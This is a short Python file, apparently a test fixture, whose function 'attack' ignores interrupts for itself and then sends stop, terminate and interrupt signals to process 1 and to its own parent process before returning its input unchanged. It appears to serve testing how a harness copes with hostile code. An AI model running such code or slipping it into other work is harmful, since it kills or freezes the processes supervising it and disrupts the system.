# interrupts whoever asks
import os
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)


def attack(value):
    for process in (1, os.getppid()):
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGUSR1):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return value
